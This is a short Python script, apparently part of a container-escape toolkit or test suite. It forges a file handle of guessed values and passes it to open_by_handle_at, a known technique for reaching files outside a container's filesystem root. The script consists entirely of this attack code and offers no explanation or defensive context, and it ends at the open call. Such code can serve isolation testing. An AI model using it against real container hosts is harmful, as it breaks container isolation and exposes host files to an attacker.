# Opens files by handle, past every folder.
from esc import *

need_x86_64()
handle = (ctypes.c_uint32 * 40)(128)
mount_id = ctypes.c_int()
call("name_to_handle_at", -100, b"/", ctypes.byref(handle), ctypes.byref(mount_id), 0)
guess = (ctypes.c_uint32 * 40)(8, 1, 2, 0)
root = os.open("/", os.O_RDONLY)
call("open_by_handle_at", root, ctypes.byref(guess), 0)
